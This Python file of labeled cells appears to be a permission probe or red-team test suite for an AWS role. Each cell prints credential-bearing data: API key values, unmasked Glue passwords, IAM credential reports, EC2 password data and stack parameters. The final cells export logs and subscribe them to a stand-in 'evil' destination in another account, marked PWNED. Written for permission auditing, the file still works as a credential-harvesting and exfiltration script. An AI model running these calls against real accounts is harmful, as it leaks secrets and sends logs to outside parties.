# What the tool's role could read of secrets that people left in settings, definitions and logs.

# %% api-keys | secret | api keys
import boto3
print(boto3.client("apigateway").get_api_keys(includeValues=True))

# %% api-key-one | secret | api key one
import boto3
print([boto3.client("apigateway").get_api_key(apiKey=k["id"], includeValue=True) for k in boto3.client("apigateway").get_api_keys()["items"]])

# %% api-stage-variables | secret | api stage variables
import boto3
print([boto3.client("apigateway").get_stages(restApiId=a["id"]) for a in boto3.client("apigateway").get_rest_apis()["items"]])

# %% codebuild-environment | secret | codebuild environment
import boto3
print(boto3.client("codebuild").batch_get_projects(names=["deploy"]))

# %% states-definition | secret | states definition
import boto3
print([boto3.client("stepfunctions").describe_state_machine(stateMachineArn=m["stateMachineArn"]) for m in boto3.client("stepfunctions").list_state_machines()["stateMachines"]])

# %% events-target-input | secret | events target input
import boto3
print(boto3.client("events").list_targets_by_rule(Rule="nightly"))

# %% launch-template | secret | launch template
import boto3
print(boto3.client("ec2").describe_launch_template_versions(LaunchTemplateName="web"))

# %% launch-template-data | secret | launch template data
import boto3
print(boto3.client("ec2").get_launch_template_data(InstanceId="i-1"))

# %% launch-configuration | secret | launch configuration
import boto3
print(boto3.client("autoscaling").describe_launch_configurations())

# %% cognito-client | secret | cognito client
import boto3
print([boto3.client("cognito-idp").describe_user_pool_client(UserPoolId=p["Id"], ClientId=c["ClientId"]) for p in boto3.client("cognito-idp").list_user_pools(MaxResults=9)["UserPools"] for c in boto3.client("cognito-idp").list_user_pool_clients(UserPoolId=p["Id"])["UserPoolClients"]])

# %% glue-connection | secret | glue connection
import boto3
print(boto3.client("glue").get_connection(Name="db"))

# %% glue-connections | secret | glue connections
import boto3
print(boto3.client("glue").get_connections(HidePassword=False))

# %% cfn-template | secret | cfn template
import boto3
print(boto3.client("cloudformation").get_template(StackName="shop"))

# %% cfn-parameters | secret | cfn parameters
import boto3
print(boto3.client("cloudformation").describe_stacks(StackName="shop"))

# %% cfn-summary | secret | cfn summary
import boto3
print(boto3.client("cloudformation").get_template_summary(StackName="shop"))

# %% lambda-versions | secret | lambda versions
import boto3
print(boto3.client("lambda").list_versions_by_function(FunctionName="orders"))

# %% logs-leaky | secret | logs leaky
import boto3
print(boto3.client("logs").filter_log_events(logGroupName="/leaky"))

# %% logs-leaky-events | secret | logs leaky events
import boto3
print(boto3.client("logs").get_log_events(logGroupName="/leaky", logStreamName="a"))

# %% iam-details | secret | iam details
import boto3
print(boto3.client("iam").get_account_authorization_details())

# %% iam-credential-report | secret | iam credential report
import boto3
print((boto3.client("iam").generate_credential_report(), PWNED))

# %% ec2-password | secret | ec2 password
import boto3
print((boto3.client("ec2").get_password_data(InstanceId=boto3.client("ec2").describe_instances()["Reservations"][0]["Instances"][0]["InstanceId"]), PWNED))

# %% sts-web | secret | sts web
import boto3
print((boto3.client("sts").assume_role_with_web_identity(RoleArn="arn:aws:iam::123456789012:role/orders-role", RoleSessionName="x", WebIdentityToken="x" * 20), PWNED))

# %% logs-export | secret | logs export
import boto3
print((boto3.client("logs").create_export_task(logGroupName="/ecs/web", fromTime=0, to=1, destination="evil"), PWNED))

# %% logs-subscription | secret | logs subscription
import boto3
print((boto3.client("logs").put_subscription_filter(logGroupName="/ecs/web", filterName="x", filterPattern="", destinationArn="arn:aws:lambda:us-east-1:999999999999:function:evil"), PWNED))
